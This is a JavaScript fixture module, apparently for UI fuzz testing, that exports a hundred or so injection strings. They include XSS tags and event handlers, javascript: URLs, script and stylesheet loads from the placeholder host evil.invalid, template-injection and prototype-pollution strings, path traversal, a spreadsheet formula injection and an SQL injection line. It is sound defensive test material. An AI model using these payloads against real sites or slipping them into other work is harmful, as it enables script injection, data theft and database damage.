// A hundred texts that have broken other pages. Each that runs sets window.owned or asks a host that does not exist.
const RUN = "window.owned=1";
const TAGS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<script src=//evil.invalid/x.js></script>`, `<script src="https://evil.invalid/x.js">`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `<img/src=x/onerror=${RUN}>`, `"><img src=x onerror=${RUN}>`, `<img src=https://evil.invalid/p.png>`, `<img srcset=//evil.invalid/p.png>`,
  `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<body onload=${RUN}>`, `<iframe src=javascript:${RUN}>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<object data=javascript:${RUN}>`, `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<select autofocus onfocus=${RUN}>`, `<video src=x onerror=${RUN}>`, `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`, `<math><mtext><script>${RUN}</script>`, `<form action=//evil.invalid><input type=submit>`, `<button formaction=javascript:${RUN}>x`, `<base href=//evil.invalid/>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`, `<meta http-equiv=refresh content="0;url=//evil.invalid">`, `<style>@import '//evil.invalid/x.css'</style>`, `<style>*{display:none}</style>`,
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<plaintext>`, `<xmp><script>${RUN}</script>`, `<table><td background=//evil.invalid>`,
];
const ATTRIBUTES = [
  `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus onfocus="${RUN}" x="`, `" style="background:url(//evil.invalid)`, `x" onclick="${RUN}`, `\` onmouseover=${RUN} \``,
];
const URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `javascript://%0a${RUN}`, `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `https://evil.invalid/`, `//evil.invalid/`, `http://evil.invalid:80@127.0.0.1/`,
  `http://a.invalid/"><script>${RUN}</script>`,
];
const EXPRESSIONS = [
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `{@html '<script>${RUN}</script>'}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{${RUN}}`, `[[${RUN}]]`, `__proto__`, `constructor`, `toString`, `hasOwnProperty`,
  `{"__proto__":{"owned":1}}`, `';${RUN};//`, `";${RUN};//`, `\`;${RUN};//`, `\\';${RUN};//`, `*/${RUN}/*`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `#/agents/../../etc`, `?q=<script>${RUN}</script>`, `../../../../etc/passwd`,
];
const LAYOUT = [
  'W'.repeat(128), 'x'.repeat(40) + ' ' + 'y'.repeat(80), 'ab '.repeat(40), '\u{1F469}\u{1F3FD}'.repeat(12), 'Ẕ͎̈́a̡l͈͝g̷o̵̜'.repeat(3), 'مرحبا بالعالم', '漢字'.repeat(30), '𝕳𝖊𝖑𝖑𝖔'.repeat(6), '=cmd|calc!A0', "Robert'); DROP TABLE agents;--",
  'null', 'undefined', 'NaN', '-1',
];
export const PAYLOADS = [...TAGS, ...ATTRIBUTES, ...URLS, ...EXPRESSIONS, ...LAYOUT];
